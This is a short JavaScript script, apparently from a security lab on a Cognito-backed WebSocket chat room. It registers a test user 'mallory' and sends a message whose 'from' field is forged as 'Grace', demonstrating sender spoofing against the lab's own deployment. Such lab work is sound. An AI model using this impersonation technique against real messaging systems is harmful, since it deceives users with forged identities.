// Signs Mallory in to lab 5's room, sends a message as Grace, and prints what everyone in the room gets.
import { CognitoIdentityProvider } from '@aws-sdk/client-cognito-identity-provider';
import WebSocket from 'ws';
import { outputs } from './outputs.mjs';

const { RoomAddress: room, UserPoolId, UserPoolClientId: ClientId } = await outputs('05-spoofed-sender');
const cognito = new CognitoIdentityProvider();
const [Username, Password] = ['mallory', 'nobody saw me here'];

await cognito.signUp({
  ClientId,
  Username,
  Password,
  UserAttributes: [{ Name: 'email', Value: 'mallory@example.com' }],
});
await cognito.adminConfirmSignUp({ UserPoolId, Username });
const { AuthenticationResult } = await cognito.initiateAuth({
  ClientId,
  AuthFlow: 'USER_PASSWORD_AUTH',
  AuthParameters: { USERNAME: Username, PASSWORD: Password },
});

const socket = new WebSocket(`${room}?token=${AuthenticationResult.IdToken}`);
socket.on('open', () => {
  const text = 'The release is canceled. Go home.';
  socket.send(JSON.stringify({ action: 'sendmessage', text, from: 'Grace' }));
});
socket.on('message', (frame) => {
  const { from, text, message } = JSON.parse(frame);
  console.log(message ?? `${from}: ${text}`);
  socket.close();
});
socket.on('error', ({ message }) => console.log(message));
socket.on('close', () => cognito.adminDeleteUser({ UserPoolId, Username }));
